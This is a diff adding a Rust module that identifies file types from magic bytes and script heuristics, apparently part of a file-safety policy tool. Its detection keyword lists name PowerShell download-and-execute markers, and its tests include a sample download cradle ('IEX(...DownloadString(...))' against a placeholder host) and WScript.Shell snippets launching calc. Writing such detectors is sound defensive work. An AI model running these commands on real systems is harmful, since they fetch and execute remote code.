@@ -1,0 +1,493 @@
+//! What a file is, from its bytes: magic numbers and structure for binaries, images and containers;
+//! content heuristics (bounded to the first [`TEXT_WINDOW`] bytes) for scripts and HTML.
+
+use memchr::memmem;
+
+/// Bytes of a text file read for script and HTML heuristics.
+pub const TEXT_WINDOW: usize = 64 * 1024;
+
+/// The broad class of a type: what a policy or a symbol cares about.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Class {
+    Executable,
+    Script,
+    DiskImage,
+    Archive,
+    Document,
+    Html,
+    Image,
+}
+
+/// A file type recognised from bytes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum FileType {
+    Pe,
+    DosExe,
+    Elf,
+    MachO,
+    Msi,
+    Lnk,
+    Chm,
+    Jar,
+    JavaClass,
+    Js,
+    Vbs,
+    Wsf,
+    Hta,
+    Ps1,
+    Bat,
+    Shell,
+    Iso,
+    Vhd,
+    Vhdx,
+    DiskImg,
+    Dmg,
+    Zip,
+    Tar,
+    Gzip,
+    Bzip2,
+    Xz,
+    SevenZip,
+    Rar,
+    Cab,
+    Pdf,
+    Rtf,
+    /// An OLE compound file that is not an MSI (Word, Excel, PowerPoint 97-2003, Outlook `.msg`).
+    Ole,
+    /// An Office Open XML package (zip with `[Content_Types].xml`).
+    Ooxml,
+    Html,
+    Png,
+    Jpeg,
+    Gif,
+}
+
+impl FileType {
+    /// The canonical name, as policies write it (`exe`, `js`, `iso`, `zip`, ...).
+    pub fn name(self) -> &'static str {
+        self.extensions()[0]
+    }
+
+    /// Extensions a file of this type may honestly carry; the first is the canonical name.
+    pub fn extensions(self) -> &'static [&'static str] {
+        use FileType::*;
+        match self {
+            Pe => &["exe", "dll", "scr", "com", "pif", "cpl", "sys", "ocx", "drv", "efi", "mui", "ax", "msp"],
+            DosExe => &["exe", "com", "scr", "pif", "sys"],
+            Elf => &["elf", "so", "bin", "run", "out", "o", "ko", "axf", "prx", "appimage"],
+            MachO => &["macho", "dylib", "bundle", "o", "bin"],
+            Msi => &["msi", "msp", "mst", "msm"],
+            Lnk => &["lnk"],
+            Chm => &["chm"],
+            Jar => &["jar", "war", "ear", "apk", "zip"],
+            JavaClass => &["class"],
+            Js => &["js", "jse", "mjs", "txt"],
+            Vbs => &["vbs", "vbe", "vba", "bas", "txt"],
+            Wsf => &["wsf", "wsh", "wsc"],
+            Hta => &["hta"],
+            Ps1 => &["ps1", "psm1", "psd1", "txt"],
+            Bat => &["bat", "cmd", "txt"],
+            Shell => &["sh", "bash", "zsh", "ksh", "run", "txt"],
+            Iso => &["iso", "udf", "img"],
+            Vhd => &["vhd"],
+            Vhdx => &["vhdx"],
+            DiskImg => &["img", "ima", "vfd", "dsk", "flp"],
+            Dmg => &["dmg"],
+            Zip => &[
+                "zip", "zipx", "jar", "apk", "xpi", "crx", "nupkg", "whl", "epub", "odt", "ods", "odp",
+                "kmz", "cbz", "docx", "xlsx", "pptx",
+            ],
+            Tar => &["tar"],
+            Gzip => &["gz", "tgz", "gzip", "svgz"],
+            Bzip2 => &["bz2", "tbz2", "tbz"],
+            Xz => &["xz", "txz"],
+            SevenZip => &["7z"],
+            Rar => &["rar"],
+            Cab => &["cab"],
+            Pdf => &["pdf", "ai"],
+            Rtf => &["rtf", "doc", "wri"],
+            Ole => {
+                &["doc", "dot", "xls", "xlt", "xla", "ppt", "pps", "pot", "msg", "vsd", "pub", "mpp", "wps"]
+            }
+            Ooxml => &[
+                "docx", "docm", "dotx", "dotm", "xlsx", "xlsm", "xltx", "xltm", "xlsb", "xlam", "pptx",
+                "pptm", "ppsx", "ppsm", "potx", "potm", "sldx", "vsdx", "vsdm",
+            ],
+            Html => &["html", "htm", "shtml", "xhtml", "mht", "mhtml", "svg", "xml", "txt"],
+            Png => &["png"],
+            Jpeg => &["jpg", "jpeg", "jpe", "jfif"],
+            Gif => &["gif"],
+        }
+    }
+
+    pub fn class(self) -> Class {
+        use FileType::*;
+        match self {
+            Pe | DosExe | Elf | MachO | Msi | Lnk | Chm | Jar | JavaClass => Class::Executable,
+            Js | Vbs | Wsf | Hta | Ps1 | Bat | Shell => Class::Script,
+            Iso | Vhd | Vhdx | DiskImg | Dmg => Class::DiskImage,
+            Zip | Tar | Gzip | Bzip2 | Xz | SevenZip | Rar | Cab => Class::Archive,
+            Pdf | Rtf | Ole | Ooxml => Class::Document,
+            Html => Class::Html,
+            Png | Jpeg | Gif => Class::Image,
+        }
+    }
+
+    /// Types recognised only by content heuristics (plain text that looks like a script).
+    pub fn is_heuristic(self) -> bool {
+        use FileType::*;
+        matches!(self, Js | Vbs | Ps1 | Bat | Shell | Html)
+    }
+}
+
+/// Every extension some type claims: an extension outside this set says nothing about type.
+pub fn is_known_extension(ext: &str) -> bool {
+    ALL.iter().any(|t| t.extensions().contains(&ext)) || NAMED_DANGEROUS.contains(&ext)
+}
+
+const ALL: [FileType; 37] = {
+    use FileType::*;
+    [
+        Pe, DosExe, Elf, MachO, Msi, Lnk, Chm, Jar, JavaClass, Js, Vbs, Wsf, Hta, Ps1, Bat, Shell, Iso, Vhd,
+        Vhdx, DiskImg, Dmg, Zip, Tar, Gzip, Bzip2, Xz, SevenZip, Rar, Cab, Pdf, Rtf, Ole, Ooxml, Html, Png,
+        Jpeg, Gif,
+    ]
+};
+
+/// Extensions that Windows runs (or opens in something that runs code) whatever the bytes are.
+const NAMED_DANGEROUS: &[&str] = &[
+    "reg",
+    "inf",
+    "scf",
+    "url",
+    "website",
+    "appref-ms",
+    "application",
+    "gadget",
+    "msc",
+    "jnlp",
+    "settingcontent-ms",
+    "library-ms",
+    "xll",
+    "iqy",
+    "slk",
+    "one",
+];
+
+/// The class an extension alone implies, for files whose bytes say nothing (an `.exe` of random
+/// bytes is still something Windows tries to run).
+pub fn class_of_extension(ext: &str) -> Option<Class> {
+    use FileType::*;
+    let in_family = |types: &[FileType]| types.iter().any(|t| t.extensions().contains(&ext));
+    if ["txt", "xml", "img", "zip", "o", "bin"].contains(&ext) {
+        // Extensions shared with harmless types say nothing by themselves.
+        return None;
+    }
+    if in_family(&[Pe, DosExe, Msi, Lnk, Chm, Jar, JavaClass]) || NAMED_DANGEROUS.contains(&ext) {
+        return Some(Class::Executable);
+    }
+    if in_family(&[Js, Vbs, Wsf, Hta, Ps1, Bat]) {
+        return Some(Class::Script);
+    }
+    if in_family(&[Iso, Vhd, Vhdx, DiskImg, Dmg]) {
+        return Some(Class::DiskImage);
+    }
+    None
+}
+
+/// The type of `data`, if it is one recognised. Reads at most the first [`TEXT_WINDOW`] bytes for
+/// text heuristics, the last 512 for trailers, and a few fixed offsets.
+pub fn detect(data: &[u8]) -> Option<FileType> {
+    magic(data).or_else(|| disk_image(data)).or_else(|| text(data))
+}
+
+fn magic(d: &[u8]) -> Option<FileType> {
+    use FileType::*;
+    let starts = |m: &[u8]| d.starts_with(m);
+    if starts(b"MZ") {
+        return Some(if is_pe(d) { Pe } else { DosExe });
+    }
+    if starts(b"\x7fELF") {
+        return Some(Elf);
+    }
+    if [b"\xfe\xed\xfa\xce", b"\xfe\xed\xfa\xcf", b"\xce\xfa\xed\xfe", b"\xcf\xfa\xed\xfe"]
+        .iter()
+        .any(|m| starts(*m))
+    {
+        return Some(MachO);
+    }
+    if starts(b"\xca\xfe\xba\xbe") && d.len() >= 8 {
+        // Mach-O universal binaries and Java classes share the magic: a fat header counts a few
+        // architectures where a class file has its version (major 45 or more).
+        let n = u32::from_be_bytes([d[4], d[5], d[6], d[7]]);
+        return Some(if n < 45 { MachO } else { JavaClass });
+    }
+    if starts(b"L\x00\x00\x00\x01\x14\x02\x00") {
+        return Some(Lnk);
+    }
+    if starts(b"ITSF") {
+        return Some(Chm);
+    }
+    if starts(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1") {
+        return Some(Ole); // refined to MSI by the OLE reader (root CLSID)
+    }
+    if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") || starts(b"PK\x07\x08") {
+        return Some(zip_kind(d));
+    }
+    if starts(b"\x1f\x8b") {
+        return Some(Gzip);
+    }
+    if starts(b"BZh") && d.len() > 3 && (b'1'..=b'9').contains(&d[3]) {
+        return Some(Bzip2);
+    }
+    if starts(b"\xfd7zXZ\x00") {
+        return Some(Xz);
+    }
+    if starts(b"7z\xbc\xaf\x27\x1c") {
+        return Some(SevenZip);
+    }
+    if starts(b"Rar!\x1a\x07") {
+        return Some(Rar);
+    }
+    if starts(b"MSCF") {
+        return Some(Cab);
+    }
+    if starts(b"{\\rtf") {
+        return Some(Rtf);
+    }
+    if memmem::find(&d[..d.len().min(1024)], b"%PDF-").is_some() {
+        return Some(Pdf);
+    }
+    if starts(b"\x89PNG\r\n\x1a\n") {
+        return Some(Png);
+    }
+    if starts(b"\xff\xd8\xff") {
+        return Some(Jpeg);
+    }
+    if starts(b"GIF87a") || starts(b"GIF89a") {
+        return Some(Gif);
+    }
+    if d.len() > 262 && &d[257..262] == b"ustar" {
+        return Some(Tar);
+    }
+    None
+}
+
+/// `MZ` with a valid `e_lfanew` pointing at `PE\0\0`.
+fn is_pe(d: &[u8]) -> bool {
+    let Some(off) = d.get(0x3c..0x40) else { return false };
+    let off = u32::from_le_bytes([off[0], off[1], off[2], off[3]]) as usize;
+    d.get(off..off.saturating_add(4)) == Some(b"PE\0\0")
+}
+
+/// A zip that is an Office package or a Java archive, told by the member names (stored uncompressed).
+fn zip_kind(d: &[u8]) -> FileType {
+    if memmem::find(d, b"[Content_Types].xml").is_some() {
+        FileType::Ooxml
+    } else if memmem::find(d, b"META-INF/MANIFEST.MF").is_some() && memmem::find(d, b".class").is_some() {
+        FileType::Jar
+    } else {
+        FileType::Zip
+    }
+}
+
+fn disk_image(d: &[u8]) -> Option<FileType> {
+    use FileType::*;
+    for off in [0x8001, 0x8801, 0x9001] {
+        let id = d.get(off..off + 5);
+        if id == Some(b"CD001") || id == Some(b"BEA01") || id == Some(b"NSR02") || id == Some(b"NSR03") {
+            return Some(Iso);
+        }
+    }
+    if d.starts_with(b"vhdxfile") {
+        return Some(Vhdx);
+    }
+    if d.starts_with(b"conectix") {
+        return Some(Vhd);
+    }
+    if d.len() >= 512 {
+        let tail = &d[d.len() - 512..];
+        if tail.starts_with(b"conectix") {
+            return Some(Vhd);
+        }
+        if tail.starts_with(b"koly") {
+            return Some(Dmg);
+        }
+    }
+    if d.len() >= 512 && d[510..512] == [0x55, 0xaa] {
+        let fat = d.get(54..59) == Some(b"FAT12")
+            || d.get(54..59) == Some(b"FAT16")
+            || d.get(82..87) == Some(b"FAT32");
+        let ntfs = d.get(3..11) == Some(b"NTFS    ") || d.get(3..11) == Some(b"EXFAT   ");
+        if fat || ntfs {
+            return Some(DiskImg);
+        }
+    }
+    None
+}
+
+/// Scripts and HTML from the text of the first [`TEXT_WINDOW`] bytes. Only text-like data is read
+/// (almost no control bytes), and strong markers are required, so prose mentioning `eval` is not a
+/// script.
+fn text(d: &[u8]) -> Option<FileType> {
+    use FileType::*;
+    let window = &d[..d.len().min(TEXT_WINDOW)];
+    if window.is_empty() || !looks_textual(window) {
+        return None;
+    }
+    let lower = String::from_utf8_lossy(window).to_ascii_lowercase();
+    let trimmed = lower.trim_start_matches('\u{feff}').trim_start();
+    let has = |s: &str| lower.contains(s);
+    let count = |needles: &[&str]| needles.iter().filter(|n| lower.contains(*n)).count();
+    if has("<hta:application") {
+        return Some(Hta);
+    }
+    if (trimmed.starts_with("<job") || trimmed.starts_with("<package") || trimmed.starts_with("<?xml"))
+        && has("<script")
+        && (has("<job") || has("<package"))
+    {
+        return Some(Wsf);
+    }
+    if trimmed.starts_with("<!doctype html")
+        || trimmed.starts_with("<html")
+        || trimmed.starts_with("<svg")
+        || (trimmed.starts_with('<')
+            && count(&["<head", "<body", "<script", "<div", "<form", "<meta", "<iframe"]) >= 1)
+    {
+        return Some(Html);
+    }
+    if trimmed.starts_with("#!") {
+        return Some(if trimmed.starts_with("#!/usr/bin/env pwsh") { Ps1 } else { Shell });
+    }
+    if trimmed.starts_with("@echo off")
+        || trimmed.starts_with("@echo on")
+        || count(&[
+            "%comspec%",
+            "cmd.exe /c",
+            "cmd /c",
+            "goto :eof",
+            "setlocal enabledelayedexpansion",
+            "\r\nset ",
+            "\nset /a ",
+        ]) >= 2
+    {
+        return Some(Bat);
+    }
+    if count(&[
+        "invoke-expression",
+        "iex(",
+        "iex (",
+        "-encodedcommand",
+        "new-object net.webclient",
+        "new-object system.net.webclient",
+        "downloadstring(",
+        "$env:",
+        "[system.convert]::frombase64string",
+        "set-executionpolicy",
+        "-executionpolicy bypass",
+        "start-process",
+        "invoke-webrequest",
+    ]) >= 2
+    {
+        return Some(Ps1);
+    }
+    let wsh = count(&[
+        "wscript.",
+        "createobject(",
+        "activexobject",
+        "shell.application",
+        "wscript.shell",
+        "scripting.filesystemobject",
+    ]);
+    if count(&["dim ", "end sub", "end function", "on error resume next", "set objshell", "createobject(\""])
+        >= 2
+        && (wsh >= 1 || has("end sub"))
+    {
+        return Some(Vbs);
+    }
+    if has("new activexobject")
+        || (wsh >= 1 && count(&["var ", "function ", "function(", "eval(", ";\n", "let ", "const "]) >= 2)
+    {
+        return Some(Js);
+    }
+    None
+}
+
+/// Mostly printable: fewer than 1 in 64 bytes are control characters other than whitespace.
+fn looks_textual(d: &[u8]) -> bool {
+    let controls =
+        d.iter().filter(|&&b| b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b)).count();
+    controls * 64 < d.len()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn pe() -> Vec<u8> {
+        let mut d = vec![0u8; 512];
+        d[..2].copy_from_slice(b"MZ");
+        d[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
+        d[0x80..0x84].copy_from_slice(b"PE\0\0");
+        d
+    }
+
+    #[test]
+    fn binaries() {
+        assert_eq!(detect(&pe()), Some(FileType::Pe));
+        assert_eq!(detect(b"MZ\x90\x00"), Some(FileType::DosExe));
+        assert_eq!(detect(b"\x7fELF\x02\x01\x01"), Some(FileType::Elf));
+        assert_eq!(detect(b"\xcf\xfa\xed\xfe\x07\x00"), Some(FileType::MachO));
+        assert_eq!(detect(b"\xca\xfe\xba\xbe\x00\x00\x00\x02"), Some(FileType::MachO));
+        assert_eq!(detect(b"\xca\xfe\xba\xbe\x00\x00\x00\x34"), Some(FileType::JavaClass));
+        assert_eq!(detect(b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00"), Some(FileType::Lnk));
+    }
+
+    #[test]
+    fn disk_images() {
+        let mut iso = vec![0u8; 0x9000];
+        iso[0x8001..0x8006].copy_from_slice(b"CD001");
+        assert_eq!(detect(&iso), Some(FileType::Iso));
+        let mut vhd = vec![0u8; 2048];
+        let n = vhd.len();
+        vhd[n - 512..n - 504].copy_from_slice(b"conectix");
+        assert_eq!(detect(&vhd), Some(FileType::Vhd));
+        let mut img = vec![0u8; 1024];
+        img[54..59].copy_from_slice(b"FAT12");
+        img[510] = 0x55;
+        img[511] = 0xaa;
+        assert_eq!(detect(&img), Some(FileType::DiskImg));
+    }
+
+    #[test]
+    fn scripts_by_content() {
+        assert_eq!(detect(b"@echo off\r\ndel /q x\r\n"), Some(FileType::Bat));
+        assert_eq!(
+            detect(b"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x.test/a'))"),
+            Some(FileType::Ps1)
+        );
+        assert_eq!(
+            detect(b"Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n"),
+            Some(FileType::Vbs)
+        );
+        assert_eq!(detect(b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"), Some(FileType::Js));
+        assert_eq!(detect(b"<html><hta:application id=x><script>x</script></html>"), Some(FileType::Hta));
+        assert_eq!(
+            detect(b"<job id=\"a\"><script language=\"JScript\">WScript.Echo(1)</script></job>"),
+            Some(FileType::Wsf)
+        );
+        assert_eq!(detect(b"<!DOCTYPE html><html><body>hi</body></html>"), Some(FileType::Html));
+        assert_eq!(detect(b"Dear team, please eval the function of the var budget."), None);
+        assert_eq!(detect(b"plain text"), None);
+    }
+
+    #[test]
+    fn families() {
+        assert_eq!(FileType::Pe.name(), "exe");
+        assert_eq!(class_of_extension("scr"), Some(Class::Executable));
+        assert_eq!(class_of_extension("hta"), Some(Class::Script));
+        assert_eq!(class_of_extension("vhdx"), Some(Class::DiskImage));
+        assert_eq!(class_of_extension("pdf"), None);
+        assert!(is_known_extension("pdf") && !is_known_extension("qqq"));
+    }
+}
